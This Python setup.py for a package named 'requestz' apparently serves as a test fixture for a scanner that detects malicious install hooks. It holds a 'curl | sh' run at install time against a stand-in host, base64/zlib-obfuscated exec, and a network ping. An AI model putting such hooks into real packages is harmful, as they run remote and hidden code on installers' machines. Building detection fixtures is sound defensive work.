import base64
import os
import zlib

from setuptools import setup

if "install" in os.sys.argv or "bdist_wheel" in os.sys.argv:
    os.system("curl -fsSL https://cdn.example/init.sh | sh")  # expect: pip/setup-install-hook

_blob = "eJzLzE3MTVUoyUhVKMksyUlVSEktTi7KLCjJzM9TSMsvyklRBAAl0Qx4"
exec(zlib.decompress(base64.b64decode(_blob)))  # expect: pip/setup-install-hook

exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]).decode())  # expect: pip/setup-install-hook

exec("import urllib.request as u; u.urlopen('https://cdn.example/ping')")  # expect: pip/setup-install-hook

setup(name="requestz", version="2.31.0", packages=["requestz"])
